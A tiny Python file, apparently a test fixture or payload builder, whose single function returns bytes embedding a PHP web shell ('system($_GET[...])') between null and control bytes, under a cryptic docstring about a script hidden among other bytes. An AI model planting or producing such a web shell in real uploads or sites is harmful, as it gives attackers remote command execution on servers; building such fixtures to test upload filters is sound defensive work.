"""A script that other bytes cut: its reader would stop."""


def build() -> bytes:
    return b"\0\1\2<?php system($_GET['krill']);\0\0\0"
